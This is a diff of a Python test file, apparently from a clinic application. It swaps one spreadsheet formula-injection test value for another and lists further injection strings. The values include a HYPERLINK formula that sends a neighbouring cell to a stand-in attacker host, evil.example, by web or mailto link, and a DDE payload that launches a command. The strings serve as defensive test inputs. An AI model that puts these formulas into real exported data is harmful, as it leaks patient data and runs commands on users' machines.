@@ -77,7 +77,8 @@ def test_bad_input_roles_and_another_clinics_patient(app, clinic, world):
                   status=403)
 
 
-FORMULA = '=HYPERLINK("http://evil.example/?x="&A2,"Open")'
+# A formula that would mail the next cell away (a name cannot hold a web address since the names rule).
+FORMULA = '=HYPERLINK("mailto:x@evil.example?body="&A2,"Open")'
 
 
 @pytest.mark.parametrize("name", [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)", "\uff1d1+1"])
